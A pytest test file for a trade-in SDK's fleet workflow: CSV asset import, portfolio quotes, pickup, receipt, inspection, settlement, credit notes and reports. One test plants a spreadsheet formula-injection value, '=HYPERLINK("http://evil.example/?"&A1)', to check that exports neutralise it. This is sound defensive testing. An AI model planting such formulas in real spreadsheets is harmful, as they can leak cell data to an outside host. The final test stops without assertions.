"""Fleet trade-in through the facade: a company's 25 devices from the asset list to the credit note.

The batch mixes what a real return holds: devices as declared, devices downgraded at inspection, devices on
the manifest but not in the boxes, devices in the boxes but not on the manifest, and iPhones whose Activation
Lock was not released. The credit note's payable total must equal what the ledger paid, to the cent; the
e-invoice must pass the EN 16931 checks; the PDF is rendered to PNG as the test's artefact.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import shutil
import subprocess
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import attrs
import openpyxl
import pypdf
import pytest
import respx
from stdnum import luhn

from grading_questionnaire._conditions import compile_condition
from tradein_sdk import FixedClock, TradeIn
from tradein_sdk._adapters.credit_note_documents import extract_credit_note_xml, validate_credit_note_xml
from tradein_sdk._app.fleet import FleetUseCases, _line_json_text, lines_digest
from tradein_sdk._domain.credit_notes import Party, SelfBillingAgreement
from tradein_sdk._domain.fleet import (
    Address,
    BatchState,
    FrameworkContract,
    LineStatus,
    add_working_days,
    check_vat_id,
    grade_answers,
)
from tradein_sdk._domain.ledger import EntryKind
from tradein_sdk._domain.orders.vocabulary import DeviceState
from tradein_sdk._domain.outbox import WebhookEndpoint
from tradein_sdk._domain.payouts import BankTransfer
from tradein_sdk._domain.signing import verify_document
from tradein_sdk._domain.webhooks import WebhookSecrets
from tradein_sdk._errors import (
    AssetImportError,
    BatchStateError,
    ConcurrentUpdateError,
    CreditNoteError,
    FleetError,
    IllegalTransitionError,
    InvalidVatIdError,
    PickupTooSmallError,
    PriceUnavailableError,
)
from tradein_sdk._ports import Ledger
from tradein_sdk.testing import example_erasure_report

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

STAFF_CHECKS = {"liquid_indicator": "not_triggered", "blocklist_status": "clear", "authenticity": "genuine"}
ISSUER = Party(
    name="Beispiel Mobilfunk GmbH",
    street="Hauptstraße 1",
    postcode="10115",
    city="Berlin",
    country="DE",
    vat_id="DE136695976",
)
BANK = BankTransfer(iban="DE89370400440532013000", holder="Muster Logistik GmbH")


def imei(tac: str, serial: int) -> str:
    """A valid IMEI with the TAC and a serial number."""
    body = tac[:8].ljust(8, "0") + f"{serial:06d}"
    return body + luhn.calc_check_digit(body)


def fleet_models(trade_in: TradeIn) -> list[tuple[str, str, str]]:
    """(variant id, TAC, brand) of catalog smartphones, Apple first; TACs the catalog does not know."""
    found = []
    for number, model in enumerate(trade_in.catalog.models):
        if model.category.value != "smartphone":
            continue
        found.append((model.variants[0].id, f"9900{number:04d}", model.brand))
    found.sort(key=lambda item: item[2] != "Apple")
    return found


@pytest.fixture
def clock() -> FixedClock:
    """Monday 7 December 2026, 09:00 UTC."""
    return FixedClock(dt.datetime(2026, 12, 7, 9, 0, tzinfo=dt.UTC))


@pytest.fixture
def trade_in(tmp_path: Path, clock: FixedClock) -> Iterator[TradeIn]:
    """The embedded facade on SQLite."""
    facade = TradeIn.embedded(tmp_path, clock=clock)
    yield facade
    facade.close()


def contract(**changes: Any) -> FrameworkContract:  # noqa: ANN401
    """A framework contract with a self-billing agreement."""
    terms: dict[str, Any] = {
        "reference": "RV-2026-17",
        "price_factor": Decimal("1.05"),
        "quote_validity_days": 21,
        "pickup_days": 3,
        "payment_days": 10,
        "holiday_country": "DE",
        "holiday_subdivision": "BE",
        "self_billing": SelfBillingAgreement(
            version="2026-01", accepted_at=dt.datetime(2026, 1, 5, 10, 0, tzinfo=dt.UTC)
        ),
    }
    terms.update(changes)
    return FrameworkContract(**terms)


def open_company(trade_in: TradeIn, status: str = "regular", **changes: Any) -> str:  # noqa: ANN401
    """A company account for the tests."""
    company = trade_in.open_company(
        "Muster Logistik GmbH",
        Address(street="Lagerweg 4", postcode="20095", city="Hamburg", country="DE"),
        vat_status=status,
        vat_id="DE 136 695 976" if status != "not_registered" else None,
        contract=contract(**changes),
        contacts=[{"name": "Erika Mustermann", "email": "it@muster.example"}],
    )
    return company.id


def asset_csv(rows: list[dict[str, str]]) -> bytes:
    """A German Excel CSV (BOM, semicolons) of the rows."""
    header = ["IMEI", "Modell", "Inventarnummer", "Kostenstelle", "Sperre aufgehoben", "Zustand"]
    keys = ["imei", "model", "asset_tag", "cost_centre", "lock_released", "grade"]
    text = ";".join(header) + "\r\n"
    for row in rows:
        text += ";".join(row.get(key, "") for key in keys) + "\r\n"
    return ("\ufeff" + text).encode()


def twenty_five(trade_in: TradeIn) -> list[dict[str, str]]:
    """25 devices: 5 models × 5, grades mixed, the first Apple rows' locks not yet released."""
    models = fleet_models(trade_in)[:5]
    rows = []
    for index in range(25):
        variant, tac, _ = models[index % 5]
        rows.append(
            {
                "imei": imei(tac, 100 + index)[:8] + " " + imei(tac, 100 + index)[8:],
                "model": variant,
                "asset_tag": f"INV-{index + 1:04d}",
                "cost_centre": "4711" if index < 12 else "4712",
                "lock_released": "ja",
                "grade": ["gut", "sehr gut", "A", "B", "C"][index % 5],
            }
        )
    return rows


# -- company accounts ---------------------------------------------------------------------------------------


def test_a_vat_id_is_checked_for_form_check_digits_and_country() -> None:
    """python-stdnum checks the number per country; each failure names its rule."""
    assert check_vat_id("DE 136.695.976", country="DE") == "DE136695976"
    with pytest.raises(InvalidVatIdError) as digits:
        check_vat_id("DE136695977")
    assert digits.value.rule == "check_digit"
    with pytest.raises(InvalidVatIdError) as form:
        check_vat_id("136695976")
    assert form.value.rule == "format"
    with pytest.raises(InvalidVatIdError) as country:
        check_vat_id("DE136695976", country="AT")
    assert country.value.rule == "country"


def test_working_days_skip_weekends_and_the_holidays_of_the_contracts_country() -> None:
    """The holidays package gives the public holidays of the contract's country and state."""
    # Wednesday 23 December 2026: 24th counts, 25th and 26th are holidays, 27th is a Sunday
    assert add_working_days(dt.date(2026, 12, 23), 3, country="DE") == dt.date(2026, 12, 29)
    # 6 January is a holiday in Bavaria, not in Berlin
    assert add_working_days(dt.date(2027, 1, 5), 1, country="DE", subdivision="BY") == dt.date(2027, 1, 7)
    assert add_working_days(dt.date(2027, 1, 5), 1, country="DE", subdivision="BE") == dt.date(2027, 1, 6)


def test_a_company_account_keeps_its_contacts_apart(trade_in: TradeIn) -> None:
    """Contacts are personal data: not in the account's document, erased with the company's data."""
    company_id = open_company(trade_in)
    company = trade_in.company(company_id)
    assert company.vat_id == "DE136695976"
    assert "Erika" not in json.dumps(company.to_json())
    assert trade_in.company_contacts(company_id) == [
        {"email": "it@muster.example", "name": "Erika Mustermann"}
    ]
    assert trade_in.erase_customer(company_id) >= 1
    assert trade_in.company_contacts(company_id) == []


def test_a_business_seller_needs_a_vat_id_or_tax_number(trade_in: TradeIn) -> None:
    """A credit note names the seller's tax id, so a business account cannot open without one."""
    with pytest.raises(FleetError, match="VAT id or a tax number"):
        trade_in.open_company(
            "Ohne Nummer GmbH",
            Address(street="Weg 1", postcode="10115", city="Berlin", country="DE"),
            vat_status="regular",
            contract=contract(),
        )


# -- portfolio quote -----------------------------------------------------------------------------------------


def test_the_portfolio_quote_prices_every_line_with_the_contract_and_signs_the_batch(
    trade_in: TradeIn,
) -> None:
    """Each line priced with the contract's book, a range when self-declared, one signature over all."""
    company_id = open_company(trade_in)
    rows = twenty_five(trade_in)
    portfolio = trade_in.fleet_quote(company_id, asset_csv(rows), filename="geraete.csv")
    assert portfolio.totals.devices == 25
    assert portfolio.totals.amount.amount == sum(line.amount.amount for line in portfolio.lines)
    assert all(line.low.amount <= line.amount.amount for line in portfolio.lines)
    assert portfolio.totals.low.amount < portfolio.totals.amount.amount  # self-declared: a range
    assert portfolio.valid_until - portfolio.issued_at == dt.timedelta(days=21)
    # the contract's 5 % shows on each line's quote, priced with a book of its own
    plain = trade_in.fleet_quote(
        open_company(trade_in, price_factor=Decimal(1)), asset_csv(rows), dry_run=True
    )
    for contracted, shop in zip(portfolio.lines, plain.lines, strict=True):
        assert contracted.amount.amount >= shop.amount.amount
    assert portfolio.totals.amount.amount > plain.totals.amount.amount
    assert plain.batch_id is None
    assert plain.envelope is None
    # the signature verifies offline and covers the lines by their digest
    assert portfolio.envelope is not None
    keys = trade_in.signing_keys
    assert keys is not None
    verified = verify_document(portfolio.envelope, keys.public_keys(), purpose="fleet-portfolio-quote")
    assert verified["lines_digest"] == lines_digest([_line_json_text(line) for line in portfolio.lines])
    assert verified["totals"]["amount"] == portfolio.totals.amount.to_json()


def test_a_list_with_bad_rows_is_refused_whole_unless_the_good_rows_are_asked_for(trade_in: TradeIn) -> None:
    """Nothing half-imported: a bad row refuses the list; ``skip_invalid`` quotes the rest and names it."""
    company_id = open_company(trade_in)
    rows = twenty_five(trade_in)[:6]
    rows[2]["imei"] = "35 123 456 789 0123"
    rows[4]["model"] = "Nokia 3310 Turbo"
    with pytest.raises(AssetImportError) as refused:
        trade_in.fleet_quote(company_id, asset_csv(rows))
    assert {(problem.row, problem.column) for problem in refused.value.problems} == {
        (4, "IMEI"),
        (6, "Modell"),
    }
    assert trade_in.fleet_batches(company_id) == []  # nothing half-imported
    portfolio = trade_in.fleet_quote(company_id, asset_csv(rows), skip_invalid=True)
    assert [line.row for line in portfolio.lines] == [2, 3, 5, 7]
    assert {problem.row for problem in portfolio.problems} == {4, 6}
    stored = trade_in.fleet_batch(portfolio.batch_id or "").portfolio.problems
    assert [(problem.row, problem.column) for problem in stored] == [(4, "IMEI"), (6, "Modell")]


# -- the whole batch -----------------------------------------------------------------------------------------


def inspect_all(trade_in: TradeIn, batch_id: str, *, downgraded: set[int], locked: set[int]) -> None:
    """Inspect every received line: as declared, downgraded (cracked display) or still locked."""
    batch = trade_in.fleet_batch(batch_id)
    for view in batch.lines:
        if view.status is not LineStatus.RECEIVED:
            continue
        answers = {**view.line.answers, **staff_checks(trade_in, view.line.variant_id, view.line.answers)}
        if view.line.line in downgraded:
            answers["display_glass"] = "cracked"
        if view.line.line in locked:
            answers["find_my_off"] = False
        trade_in.inspect_fleet_device(batch_id, view.line.line, answers, imei=view.line.imei)


def staff_checks(trade_in: TradeIn, variant_id: str, answers: Mapping[str, Any]) -> dict[str, object]:
    """The inspector's own checks, clean, for the questions of the device's questionnaire that are shown."""
    model = trade_in.catalog.lookup(variant_id).model
    questionnaire = trade_in.questionnaire(model.category.value)
    ranks = {
        question.id: {option.id: n for n, option in enumerate(question.options)}
        for question in questionnaire.questions
    }
    checks: dict[str, object] = {}
    for question in questionnaire.questions:
        shown = question.show_if is None or compile_condition(question.show_if, ranks)({**answers, **checks})
        if question.staff_only and shown and question.options:
            checks[question.id] = question.options[0].id
    return checks


def test_a_batch_of_25_devices_settles_once_and_its_credit_note_equals_the_ledger(  # noqa: PLR0915 - one story
    any_store_trade_in: TradeIn, clock: FixedClock, tmp_path: Path
) -> None:
    """As declared, downgraded, missing, extra and locked devices; the credit note ties to the ledger.

    On SQLite and on PostgreSQL.
    """
    trade_in = any_store_trade_in
    company_id = open_company(trade_in)
    rows = twenty_five(trade_in)
    portfolio = trade_in.fleet_quote(company_id, asset_csv(rows), filename="geraete.csv")
    batch_id = portfolio.batch_id
    assert batch_id is not None
    with pytest.raises(PickupTooSmallError):
        trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], lines=[1, 2, 3])
    clock.advance(days=1)
    booked = trade_in.book_pickup(
        batch_id, boxes=2, seals=["PL-0001", "PL-0002"], contact={"name": "Pforte"}, payout=BANK
    )
    assert booked.state is BatchState.BOOKED
    assert trade_in.pickup_contact(batch_id) == {"name": "Pforte"}  # kept apart, read back by its reference
    assert booked.manifest is not None
    assert booked.manifest.pickup_on == dt.date(2026, 12, 11)  # 3 working days after Tuesday the 8th
    order = trade_in.order(booked.order_id or "")
    assert len(order.devices) == 25
    assert [device.quoted for device in order.devices] == [line.amount for line in portfolio.lines]
    with pytest.raises(FleetError, match="seals"):
        trade_in.hand_over(batch_id, seals=["PL-0001"], carrier="DHL")
    clock.advance(days=3)
    picked = trade_in.hand_over(batch_id, seals=["PL-0002", "PL-0001"], carrier="DHL", tracking="00340434")
    assert picked.state is BatchState.PICKED_UP
    assert picked.handover is not None
    clock.advance(days=2)
    missing = {20, 21}
    scanned = [view.line.imei or "" for view in picked.lines if view.line.line not in missing] + [
        "35 000000 000001 9",
        "SERIAL-XYZ-1",
    ]
    received = trade_in.receive_batch(batch_id, scanned)
    assert [view.line.line for view in received.lines if view.status is LineStatus.MISSING] == [20, 21]
    assert [extra.identifier for extra in received.extras] == ["35 000000 000001 9", "SERIAL-XYZ-1"]
    with pytest.raises(BatchStateError, match="not decided") as undecided:
        trade_in.settle_batch(batch_id, issuer=ISSUER)
    assert undecided.value.reason == "undecided"
    apple_lines = {view.line.line for view in received.lines if "apple" in view.line.variant_id}
    locked = set(sorted(apple_lines - missing)[:2])
    downgraded = {16, 17, 18, 19} - locked
    inspect_all(trade_in, batch_id, downgraded=downgraded, locked=locked)
    trade_in.decide_extra(batch_id, "35000000000001 9", "return")
    true_up = trade_in.fleet_true_up(batch_id)
    assert true_up.missing == 2
    assert true_up.extras == 2
    assert true_up.adjustment.amount < 0
    for view in true_up.lines:
        if view.line.line in downgraded:
            assert view.adjustment.amount < 0
            assert any("display_glass" in reason for reason in view.reasons)
        elif view.status is LineStatus.RECEIVED and view.line.line not in locked:
            assert view.offer == view.line.amount  # as declared
    settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
    assert settled.state is BatchState.SETTLED
    assert settled.settlement is not None
    with pytest.raises(BatchStateError):
        trade_in.settle_batch(batch_id, issuer=ISSUER)  # exactly once

    # the ledger paid what the credit note says, to the cent
    entries = (
        trade_in.store.ledger_entries(settled.order_id or "") if isinstance(trade_in.store, Ledger) else []
    )
    paid = sum((entry.amount.amount for entry in entries if entry.kind is EntryKind.PAYOUT_MADE), Decimal(0))
    note = json.loads(trade_in.fleet_document(batch_id, "credit_note_json").content)
    assert Decimal(note["payable"]["amount"]) == paid == true_up.confirmed.amount
    assert Decimal(settled.settlement["amount"]["amount"]) == paid
    assert note["title"] == "Gutschrift"
    assert note["number"].startswith("GS-2026-")
    assert len(note["lines"]) == 25 - len(missing) - len(locked)
    order = trade_in.order(settled.order_id or "")
    states = {device.id: device.state for device in order.devices}
    assert sum(1 for state in states.values() if state is DeviceState.PAID) == len(note["lines"])
    assert sum(1 for state in states.values() if state is DeviceState.CANCELLED) == 2
    # one settlement: every payout under one reference
    assert (
        len(
            {
                device.payout.reference
                for device in order.devices
                if device.state is DeviceState.PAID and device.payout
            }
        )
        == 1
    )

    # the e-invoice passes the EN 16931 checks; the PDF carries it and renders
    xml = trade_in.fleet_document(batch_id, "credit_note_xml").content
    assert validate_credit_note_xml(xml) == []
    pdf = trade_in.fleet_document(batch_id, "credit_note_pdf").content
    assert extract_credit_note_xml(pdf) == xml
    documents = trade_in.fleet_documents(batch_id)
    assert {document.kind for document in documents} >= {
        "handover_record",
        "credit_note_xml",
        "credit_note_pdf",
    }
    assert all(document.retain_until == dt.date(2037, 1, 1) for document in documents)
    tool = shutil.which("pdftoppm")
    if tool is not None:
        path = tmp_path / "credit-note.pdf"
        path.write_bytes(pdf)
        subprocess.run(
            [
                tool,
                "-png",
                "-r",
                "60",
                "-f",
                "1",
                "-l",
                "1",
                "-singlefile",
                str(path),
                str(tmp_path / "credit-note"),
            ],
            check=True,
        )
        assert (tmp_path / "credit-note.png").stat().st_size > 10_000


def test_a_company_that_is_not_a_vat_seller_gets_a_purchase_statement(trade_in: TradeIn) -> None:
    """No VAT shown and no e-invoice when the seller is not a VAT-registered business."""
    company_id = open_company(trade_in, status="not_registered")
    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:4]))
    batch_id = portfolio.batch_id or ""
    trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
    batch = trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
    trade_in.receive_batch(batch_id, [view.line.imei or "" for view in batch.lines])
    inspect_all(trade_in, batch_id, downgraded=set(), locked=set())
    settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
    note = json.loads(trade_in.fleet_document(batch_id, "purchase_statement_json").content)
    assert note["title"] == "Ankaufbeleg"
    assert Decimal(note["vat_total"]["amount"]) == 0
    assert Decimal(note["payable"]["amount"]) == portfolio.totals.amount.amount
    assert settled.settlement is not None
    with pytest.raises(FleetError):
        trade_in.fleet_document(batch_id, "credit_note_xml")


def test_no_credit_note_without_a_self_billing_agreement(trade_in: TradeIn) -> None:
    """§ 14 Abs. 2 UStG: a Gutschrift needs a prior agreement; nothing is paid without it."""
    company_id = open_company(trade_in, self_billing=None)
    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:4]))
    batch_id = portfolio.batch_id or ""
    trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
    batch = trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
    trade_in.receive_batch(batch_id, [view.line.imei or "" for view in batch.lines])
    inspect_all(trade_in, batch_id, downgraded=set(), locked=set())
    with pytest.raises(CreditNoteError, match="agreement"):
        trade_in.settle_batch(batch_id, issuer=ISSUER)
    assert trade_in.fleet_batch(batch_id).state is BatchState.RECEIVED  # nothing paid, nothing written


def test_an_expired_portfolio_quote_cannot_be_booked(trade_in: TradeIn, clock: FixedClock) -> None:
    """The portfolio's amounts are guaranteed for the contract's validity only."""
    company_id = open_company(trade_in)
    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:5]))
    clock.advance(days=22)
    with pytest.raises(BatchStateError, match="expired") as expired:
        trade_in.book_pickup(portfolio.batch_id or "", boxes=1, seals=["S-1"])
    assert expired.value.reason == "expired"


def test_the_company_report_ties_out_and_exports_as_csv_xlsx_and_pdf(  # noqa: PLR0915 - one report
    any_store_trade_in: TradeIn, clock: FixedClock, tmp_path: Path
) -> None:
    """Outcome, certificate, credit-note line and CO2 per asset tag; the paid total is the credit note's."""
    trade_in = any_store_trade_in
    company_id = open_company(trade_in)
    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:6]))
    batch_id = portfolio.batch_id or ""
    trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
    batch = trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
    clock.advance(days=2)
    received = trade_in.receive_batch(batch_id, [view.line.imei or "" for view in batch.lines[:5]])
    received_at = clock.now()
    inspect_all(trade_in, batch_id, downgraded={2}, locked=set())
    clock.advance(hours=2)
    for view in received.lines[:3]:
        trade_in.record_erasure_report(
            received.order_id or "",
            view.device_id or "",
            example_erasure_report(
                received.order_id or "",
                device_id=view.device_id or "",
                imei=view.line.imei or "",
                received_at=received_at,
            ),
        )
    trade_in.settle_batch(batch_id, issuer=ISSUER)
    report = trade_in.fleet_report(batch_id)
    note = json.loads(trade_in.fleet_document(batch_id, "credit_note_json").content)
    assert report.totals["paid"] == note["payable"]["amount"]
    assert report.totals["outcomes"] == {"missing": 1, "paid": 5}
    by_tag = {row.asset_tag: row for row in report.rows}
    assert by_tag["INV-0002"].adjustment < 0
    assert any("display_glass" in reason for reason in by_tag["INV-0002"].reasons)
    assert by_tag["INV-0006"].outcome == "missing"
    assert by_tag["INV-0006"].paid is None
    assert [row.certificate_id is not None for row in report.rows] == [True, True, True, False, False, False]
    assert [row.credit_note_line for row in report.rows] == [1, 2, 3, 4, 5, None]
    assert [line["description"] for line in note["lines"]] == [row.device for row in report.rows[:5]]
    assert report.co2 is not None
    assert Decimal(report.co2["central"]) > 0
    assert report.certificates is not None
    assert len(report.certificates["certificates"]) == 3
    csv_text = trade_in.fleet_report_file(batch_id, format="csv").decode()
    header, *lines = csv_text.strip().split("\r\n")
    assert header.split(",")[:3] == ["line", "asset_tag", "cost_centre"]
    assert [line.split(",")[1] for line in lines] == [f"INV-{n:04d}" for n in range(1, 7)]
    workbook = openpyxl.load_workbook(io.BytesIO(trade_in.fleet_report_file(batch_id, format="xlsx")))
    sheet = workbook["Devices"]
    assert sheet.max_row == 7
    assert sum(Decimal(str(cell.value)) for cell in sheet["L"][1:] if cell.value is not None) == Decimal(
        report.totals["paid"]
    )
    pdf = trade_in.fleet_report_file(batch_id, format="pdf", locale="de")
    assert pdf.startswith(b"%PDF")
    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages)
    assert "Bericht Flotten-Ankauf" in text
    assert note["number"] in text
    tool = shutil.which("pdftoppm")
    if tool is not None:
        path = tmp_path / "fleet-report.pdf"
        path.write_bytes(pdf)
        subprocess.run(
            [
                tool,
                "-png",
                "-r",
                "50",
                "-f",
                "1",
                "-l",
                "1",
                "-singlefile",
                str(path),
                str(tmp_path / "fleet-report"),
            ],
            check=True,
        )
        assert (tmp_path / "fleet-report.png").exists()
    with pytest.raises(FleetError, match="csv, xlsx, pdf or json"):
        trade_in.fleet_report_file(batch_id, format="docx")


def test_the_settled_batch_is_told_by_webhook(tmp_path: Path, clock: FixedClock) -> None:
    """A ``fleet.batch.settled`` webhook carries the batch, the amount and the document number, once."""
    endpoint = WebhookEndpoint(url="https://erp.muster.test/hooks", secrets=WebhookSecrets.generate())
    trade_in = TradeIn.embedded(tmp_path, clock=clock, webhook_endpoints=[endpoint])
    try:
        company_id = open_company(trade_in)
        portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:4]))
        batch_id = portfolio.batch_id or ""
        trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
        batch = trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
        trade_in.receive_batch(batch_id, [view.line.imei or "" for view in batch.lines])
        inspect_all(trade_in, batch_id, downgraded=set(), locked=set())
        settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
        with respx.mock(assert_all_called=False) as mock:
            route = mock.post("https://erp.muster.test/hooks").respond(204)
            trade_in.deliver_webhooks(limit=1000)
        bodies = [json.loads(call.request.content) for call in route.calls]
        told = [body for body in bodies if body["type"] == "fleet.batch.settled"]
        assert len(told) == 1
        assert told[0]["data"]["batch_id"] == batch_id
        assert settled.settlement is not None
        assert told[0]["data"]["amount"] == settled.settlement["amount"]
        assert told[0]["data"]["document"]["number"].startswith("GS-")
    finally:
        trade_in.close()


# -- what a review found: each defect shown, then held ------------------------------------------------------


def settle_ready(trade_in: TradeIn, company_id: str, *, devices: int = 4, missing: int = 0) -> str:
    """A batch quoted, booked, handed over, received (``missing`` lines not in the boxes) and inspected."""
    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:devices]))
    batch_id = portfolio.batch_id or ""
    trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
    batch = trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
    trade_in.receive_batch(batch_id, [view.line.imei or "" for view in batch.lines[missing:]])
    inspect_all(trade_in, batch_id, downgraded=set(), locked=set())
    return batch_id


def paid_entries(trade_in: TradeIn, batch_id: str) -> list[Any]:
    """The payout entries of a batch's order."""
    order_id = trade_in.fleet_batch(batch_id).order_id or ""
    store = trade_in.store
    assert isinstance(store, Ledger)
    return [entry for entry in store.ledger_entries(order_id) if entry.kind is EntryKind.PAYOUT_MADE]


def test_nothing_is_paid_or_numbered_when_the_credit_note_cannot_be_issued(trade_in: TradeIn) -> None:
    """The document is built and checked before any money moves (an issuer's malformed VAT id)."""
    batch_id = settle_ready(trade_in, open_company(trade_in))
    with pytest.raises(CreditNoteError):
        trade_in.settle_batch(batch_id, issuer=attrs.evolve(ISSUER, vat_id="DE 13669597"))
    assert trade_in.fleet_batch(batch_id).state is BatchState.RECEIVED
    assert paid_entries(trade_in, batch_id) == []
    settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
    assert settled.settlement is not None
    assert settled.settlement["document"]["number"] == "GS-2026-000001"  # no number spent on the failure


def test_a_batch_with_nothing_to_pay_closes_without_a_document(trade_in: TradeIn) -> None:
    """Every device missing: the batch settles at zero, with no credit note and no number spent."""
    batch_id = settle_ready(trade_in, open_company(trade_in), missing=4)
    settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
    assert settled.state is BatchState.SETTLED
    assert settled.settlement is not None
    assert settled.settlement["document"] is None
    assert settled.settlement["amount"]["amount"] == "0"
    assert {document.kind for document in trade_in.fleet_documents(batch_id)} == {"handover_record"}


def test_a_settlement_cut_short_after_paying_finishes_on_the_next_call(
    trade_in: TradeIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Paid, then the document fails: the batch stays ``settling``; the next call issues it, paying once."""
    batch_id = settle_ready(trade_in, open_company(trade_in))
    issue = FleetUseCases._issue_settlement_documents
    calls = []

    def failing_once(self: FleetUseCases, *args: Any, **kwargs: Any) -> Any:  # noqa: ANN401
        calls.append(1)
        if len(calls) == 1:
            raise OSError("disk full")
        return issue(self, *args, **kwargs)

    monkeypatch.setattr(FleetUseCases, "_issue_settlement_documents", failing_once)
    with pytest.raises(OSError, match="disk full"):
        trade_in.settle_batch(batch_id, issuer=ISSUER)
    assert trade_in.fleet_batch(batch_id).state is BatchState.SETTLING
    assert len(paid_entries(trade_in, batch_id)) == 4
    settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
    assert settled.state is BatchState.SETTLED
    assert len(paid_entries(trade_in, batch_id)) == 4  # paid once
    assert settled.settlement is not None
    assert settled.settlement["document"]["number"] == "GS-2026-000001"


def test_a_pickup_booked_weeks_later_keeps_the_guaranteed_amounts(
    trade_in: TradeIn, clock: FixedClock
) -> None:
    """Booked 20 days after the quote, over a month's end: each device at its quoted amount (not re-aged)."""
    company_id = open_company(trade_in)
    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:10]))
    clock.advance(days=20)
    booked = trade_in.book_pickup(portfolio.batch_id or "", boxes=1, seals=["S-1"], payout=BANK)
    order = trade_in.order(booked.order_id or "")
    assert [device.quoted for device in order.devices] == [line.amount for line in portfolio.lines]


def test_receiving_the_boxes_is_all_or_nothing(trade_in: TradeIn) -> None:
    """A device that cannot be received (cancelled meanwhile) refuses the whole receipt: nothing half-done."""
    company_id = open_company(trade_in)
    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:4]))
    batch_id = portfolio.batch_id or ""
    booked = trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
    trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
    trade_in.record_event(booked.order_id or "", "d3", "cancel", actor="staff")
    with pytest.raises(IllegalTransitionError):
        trade_in.receive_batch(batch_id, [view.line.imei or "" for view in booked.lines])
    batch = trade_in.fleet_batch(batch_id)
    assert batch.state is BatchState.PICKED_UP
    assert [view.state for view in batch.lines] == [
        DeviceState.AWAITING_SHIPMENT,
        DeviceState.AWAITING_SHIPMENT,
        DeviceState.CANCELLED,
        DeviceState.AWAITING_SHIPMENT,
    ]


def test_bad_company_and_list_input_is_typed(trade_in: TradeIn) -> None:
    """A regular seller abroad, a price factor of NaN, an unknown default grade, a device without a price."""
    with pytest.raises(FleetError, match="intra-Community"):
        trade_in.open_company(
            "Wien GmbH",
            Address(street="Ring 1", postcode="1010", city="Wien", country="AT"),
            vat_status="regular",
            vat_id="ATU13585627",
            contract=contract(),
        )
    with pytest.raises(FleetError, match="price factor"):
        contract(price_factor=Decimal("NaN"))
    company_id = open_company(trade_in)
    rows = twenty_five(trade_in)[:5]
    with pytest.raises(FleetError, match="default grade"):
        trade_in.fleet_quote(company_id, asset_csv(rows), default_grade="mint")
    unpriced = next(
        variant.id
        for model in trade_in.catalog.models
        for variant in model.variants
        if model.category.value == "smartphone" and not _priced(trade_in, variant.id)
    )
    rows[1]["model"] = unpriced
    with pytest.raises(AssetImportError) as refused:
        trade_in.fleet_quote(company_id, asset_csv(rows))
    assert [(problem.row, problem.code) for problem in refused.value.problems] == [(3, "no_price")]
    quoted = trade_in.fleet_quote(company_id, asset_csv(rows), skip_invalid=True)
    assert [line.row for line in quoted.lines] == [2, 4, 5, 6]
    assert [line.line for line in quoted.lines] == [1, 2, 3, 4]


def _priced(trade_in: TradeIn, variant_id: str) -> bool:
    try:
        trade_in.quote(variant_id, grade_answers_for(trade_in, variant_id))
    except PriceUnavailableError:
        return False
    return True


def grade_answers_for(trade_in: TradeIn, variant_id: str) -> dict[str, object]:
    """Self-declared answers of a good device of this variant."""
    model = trade_in.catalog.lookup(variant_id).model
    return grade_answers(trade_in.questionnaire(model.category.value), model, "good")


def test_the_report_never_hands_a_spreadsheet_a_formula(trade_in: TradeIn) -> None:
    """An asset tag that reads as a formula is written as text (CSV and XLSX)."""
    company_id = open_company(trade_in)
    rows = twenty_five(trade_in)[:4]
    rows[0]["asset_tag"] = '=HYPERLINK("http://evil.example/?"&A1)'
    rows[1]["cost_centre"] = "@SUM(1)"
    batch_id = trade_in.fleet_quote(company_id, asset_csv(rows)).batch_id or ""
    text = trade_in.fleet_report_file(batch_id, format="csv").decode()
    assert "\\n=" not in text.replace("\\r\\n", "\\n").replace(",", "\\n")
    workbook = openpyxl.load_workbook(io.BytesIO(trade_in.fleet_report_file(batch_id, format="xlsx")))
    sheet_cells = [cell for row in workbook["Devices"].iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in sheet_cells)
    assert workbook["Devices"]["B2"].value.startswith("'=")


def test_reverse_charge_covers_phones_and_tablets_not_watches(trade_in: TradeIn) -> None:
    """§ 13b Abs. 2 Nr. 10 UStG: phones over 5,000 € are reverse charge; with a smartwatch among them, not."""
    company_id = open_company(trade_in, price_factor=Decimal(2))
    phones = [model for model in trade_in.catalog.models if model.category.value == "smartphone"]
    survey = trade_in.fleet_quote(
        company_id,
        asset_csv(
            [
                {"imei": imei(f"9900{n:04d}", 1), "model": model.variants[0].id, "grade": "A"}
                for n, model in enumerate(phones)
            ]
        ),
        dry_run=True,
        skip_invalid=True,
    )
